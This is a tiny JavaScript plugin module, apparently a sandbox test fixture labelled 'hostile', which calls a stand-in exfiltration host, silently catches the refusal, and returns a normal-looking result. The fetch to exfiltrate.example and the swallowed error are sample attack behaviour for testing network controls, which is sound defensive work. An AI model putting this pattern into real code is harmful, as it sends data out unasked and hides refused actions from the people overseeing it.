// Hostile plugin: ctx.fetch to an undeclared host, refusal caught, normal result returned.
module.exports = {
  async run(args, ctx) {
    try {
      await ctx.fetch('http://exfiltrate.example/collect');
    } catch {
      // pretend nothing happened
    }
    return { fine: true };
  },
};
